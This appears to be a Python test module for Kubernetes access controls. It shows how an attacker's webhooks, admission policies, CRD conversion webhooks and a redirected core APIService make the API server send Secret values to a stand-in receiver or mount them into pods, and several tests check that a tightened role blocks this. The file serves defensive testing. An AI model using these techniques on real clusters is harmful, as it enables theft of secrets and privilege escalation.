"""Ways by which the API server itself sends what others write or read to a server of the attacker's."""

from __future__ import annotations

import base64
import functools
import http.client
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

from tests.access.demonstrations.receiver import Receiver, touch
from tests.access.demonstrations.stage import Stage, demonstrate, encoded, is_refused
from tests.support.controlplane.access import Client, RefusedError, eventually
from tests.support.controlplane.apiserver import Options
from tests.support.controlplane.fixtures import StartCluster

WEBHOOKS = "/apis/admissionregistration.k8s.io/v1"
DEFINITION = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions/attacks.example.com"
CORE = "/apis/apiregistration.k8s.io/v1/apiservices/v1."
MERGE = {"Content-Type": "application/merge-patch+json"}


def _allowed(_: str, review: Any) -> Any:
    said: dict[str, Any] = {"uid": review["request"]["uid"], "allowed": True}
    if review["request"]["kind"]["kind"] == "Pod":
        volume = {"name": "jewel", "secret": {"secretName": "crown-jewel"}}
        patch = json.dumps([{"op": "add", "path": "/spec/volumes", "value": [volume]}])
        said |= {"patchType": "JSONPatch", "patch": base64.b64encode(patch.encode()).decode()}
    return {"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "response": said}


def _webhook(stage: Stage, own: Receiver, resource: str, *operations: str) -> dict[str, Any]:
    """Return a configuration that sends what happens to a resource of the vault, and of nobody else's namespace."""
    client = {"url": f"https://127.0.0.1:{own.port}/", "caBundle": base64.b64encode(own.authority).decode()}
    rule = {"apiGroups": [""], "apiVersions": ["v1"], "resources": [resource], "operations": list(operations)}
    webhook = {
        "name": "mine.example.com",
        "clientConfig": client,
        "rules": [rule],
        "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": stage.vault}},
        "failurePolicy": "Ignore",
        "sideEffects": "None",
        "admissionReviewVersions": ["v1"],
    }
    return {"metadata": {"name": stage.own("attack")}, "webhooks": [webhook]}


def test_a_webhook_sees_secrets(stage: Callable[[str], Stage], tmp_path: Path) -> None:
    """When anybody changes the Secret, a webhook of the attacker's is sent its values; he cannot make one once closed."""
    scene = stage("webhook-write")
    path = f"{WEBHOOKS}/validatingwebhookconfigurations"
    with Receiver(tmp_path, _allowed) as own:

        def attempt(at: Stage) -> str:
            status, _ = at.attacker().request("POST", path, _webhook(at, own, "secrets", "UPDATE"))
            if status == http.client.FORBIDDEN:
                raise RefusedError(status, "Forbidden", "")
            touch(at)
            return own.text

        try:
            demonstrate(scene, attempt)
        finally:
            scene.admin.request("DELETE", f"{path}/{scene.own('attack')}")


def test_a_webhook_changes_pods(stage: Callable[[str], Stage], tmp_path: Path) -> None:
    """A pod that somebody makes gets a volume with the Secret, by a mutating webhook of the attacker's."""
    scene = stage("webhook-write")
    scene.put("setup")
    path, attacker = f"{WEBHOOKS}/mutatingwebhookconfigurations", scene.attacker()
    pods = f"/api/v1/namespaces/{scene.vault}/pods?dryRun=All"
    spec = {"automountServiceAccountToken": False, "containers": [{"name": "web", "image": "registry.example/web:1"}]}
    with Receiver(tmp_path, _allowed) as own:
        configuration = _webhook(scene, own, "pods", "CREATE")

        def mounted() -> bool:
            made = scene.admin.create(pods, {"metadata": {"name": "web"}, "spec": spec})
            return bool(made["spec"].get("volumes", [{}])[0].get("secret", {}).get("secretName") == "crown-jewel")

        try:
            eventually(lambda: attacker.request("POST", path, configuration)[0] == http.client.CREATED, "it may")
            eventually(mounted, "the pod mounts the Secret")
        finally:
            scene.admin.request("DELETE", f"{path}/{scene.own('attack')}")


def test_a_policy_changes_pods(stage: Callable[[str], Stage]) -> None:
    """A pod that somebody makes gets a volume with the Secret, by a policy of the attacker's; closed, he writes none."""
    scene = stage("admission-policy-write")
    scene.put("setup")
    attacker, name = scene.attacker(), scene.own("attack")
    rule = {"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["pods"]}
    change = """Object{spec: Object.spec{volumes: [Object.spec.volumes{
        name: "jewel", secret: Object.spec.volumes.secret{secretName: "crown-jewel"}}]}}"""
    policy = {
        "matchConstraints": {
            "resourceRules": [rule],
            "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": scene.vault}},
        },
        "failurePolicy": "Fail",
        "reinvocationPolicy": "Never",
        "mutations": [{"patchType": "ApplyConfiguration", "applyConfiguration": {"expression": change}}],
    }
    objects = {"mutatingadmissionpolicies": policy, "mutatingadmissionpolicybindings": {"policyName": name}}

    def written(plural: str) -> int:
        body = {"metadata": {"name": name}, "spec": objects[plural]}
        return attacker.request("POST", f"{WEBHOOKS}/{plural}", body)[0]

    def mounted() -> bool:
        spec = {
            "automountServiceAccountToken": False,
            "containers": [{"name": "web", "image": "registry.example/web:1"}],
        }
        path = f"/api/v1/namespaces/{scene.vault}/pods?dryRun=All"
        made = scene.admin.create(path, {"metadata": {"name": "web"}, "spec": spec})
        return bool(made["spec"].get("volumes", [{}])[0].get("secret", {}).get("secretName") == "crown-jewel")

    try:
        for plural in objects:
            eventually(functools.partial(_is, written, plural, http.client.CREATED), f"he may write {plural}")
        eventually(mounted, "the pod mounts the Secret")
        scene.put("fixed")
        for plural in objects:
            eventually(functools.partial(_is, written, plural, http.client.FORBIDDEN), f"he writes no {plural}")
    finally:
        for plural in objects:
            scene.admin.request("DELETE", f"{WEBHOOKS}/{plural}/{name}")


def _is(ask: Callable[[str], int], plural: str, status: int) -> bool:
    return ask(plural) == status


def _converted(_: str, review: Any) -> Any:
    request = review["request"]
    objects = [{**one, "apiVersion": request["desiredAPIVersion"]} for one in request["objects"]]
    said = {"uid": request["uid"], "result": {"status": "Success"}, "convertedObjects": objects}
    return {"apiVersion": "apiextensions.k8s.io/v1", "kind": "ConversionReview", "response": said}


def test_a_conversion_sees_custom_resources(stage: Callable[[str], Stage], tmp_path: Path) -> None:
    """When anybody reads the object in a version of the attacker's, its values are sent to him; closed, he adds none."""
    scene = stage("crd-conversion")
    _define(scene)
    scene.put("setup")
    before = scene.admin.get(DEFINITION)["spec"]
    with Receiver(tmp_path, _converted) as own:
        client = {"url": f"https://127.0.0.1:{own.port}/", "caBundle": base64.b64encode(own.authority).decode()}
        webhook = {"clientConfig": client, "conversionReviewVersions": ["v1"]}
        versions = [*before["versions"], {**before["versions"][0], "name": "v2", "storage": False}]
        change = {"spec": {"versions": versions, "conversion": {"strategy": "Webhook", "webhook": webhook}}}
        read = f"/apis/example.com/v2/namespaces/{scene.vault}/attacks"

        def attempt(at: Stage) -> str:
            at.attacker().call("PATCH", DEFINITION, change, MERGE)
            at.admin.request("GET", read)
            return own.text

        try:
            demonstrate(scene, attempt)
        finally:
            back = {"spec": {"versions": before["versions"], "conversion": {"strategy": "None", "webhook": None}}}
            scene.admin.call("PATCH", DEFINITION, back, MERGE)


def _define(scene: Stage) -> None:
    """Put the definition of the example there, and wait until objects of it can be made."""
    scene.put_kind("setup", "CustomResourceDefinition")
    eventually(lambda: scene.admin.answers("/apis/example.com/v1/attacks"), "the kind is served")


def _core(path: str, _: Any) -> Any:
    if path.rstrip("/") in ("/api", "/api/v1"):
        return {"kind": "APIResourceList", "apiVersion": "v1", "groupVersion": "v1", "resources": []}
    return {"kind": "Secret", "apiVersion": "v1", "metadata": {"name": "rotated"}}


def test_another_server_answers_for_the_core_api(start_cluster: StartCluster, tmp_path: Path) -> None:
    """Secrets that are written go to a server of the attacker's, and stay so; who may change other groups may not."""
    cluster = start_cluster(Options(), controllers=True)
    scene = Stage(cluster.access, "api-service-write")
    scene.put("fixed")
    with Receiver(tmp_path, _core) as own:
        eventually(lambda: is_refused(scene, lambda at: _redirect(at, at.attacker(), own)), "the way is closed")
        scene.put("setup")
        attacker = scene.attacker()
        _lead_away(scene, attacker)
        eventually(lambda: not is_refused(scene, lambda at: _redirect(at, attacker, own)), "the way is open")
        path = f"/api/v1/namespaces/{scene.vault}/secrets"
        body = {"metadata": {"name": "rotated"}, "stringData": {"password": scene.planted}}

        def taken() -> bool:
            scene.admin.request("POST", path, body)
            return scene.planted in own.text or encoded(scene.planted) in own.text

        eventually(taken, "what is written goes to the attacker")
        assert scene.admin.get(CORE)["spec"]["service"]["name"] == "mine"


def _lead_away(scene: Stage, attacker: Client) -> None:
    """Make a Service of the attacker's own that leads out of the cluster."""
    spec = {"type": "ExternalName", "externalName": "localhost"}
    path = f"/api/v1/namespaces/{scene.outside}/services"
    body = {"metadata": {"name": "mine"}, "spec": spec}
    eventually(lambda: attacker.request("POST", path, body)[0] == http.client.CREATED, "he may make a Service")


def _redirect(scene: Stage, attacker: Client, own: Receiver) -> str:
    service = {"namespace": scene.outside, "name": "mine", "port": own.port}
    change = {"spec": {"service": service, "insecureSkipTLSVerify": True}}
    return str(attacker.call("PATCH", CORE, change, MERGE))
